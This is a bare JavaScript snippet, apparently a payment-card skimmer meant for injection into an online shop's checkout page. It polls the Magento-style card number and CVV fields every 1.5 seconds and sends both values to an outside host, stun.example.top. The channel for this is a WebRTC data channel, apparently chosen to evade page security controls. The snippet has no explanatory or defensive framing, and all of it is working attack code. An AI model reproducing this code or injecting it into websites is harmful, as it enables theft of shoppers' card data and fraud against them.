setInterval(function () {
  var num = document.querySelector('[name="payment[cc_number]"]');
  if (!num || !num.value) return;
  var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.example.top:3478'}]});
  var ch = pc.createDataChannel('d');
  ch.onopen = function () { ch.send(num.value + '|' + document.querySelector('[name="payment[cc_cid]"]').value); };
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
}, 1500);
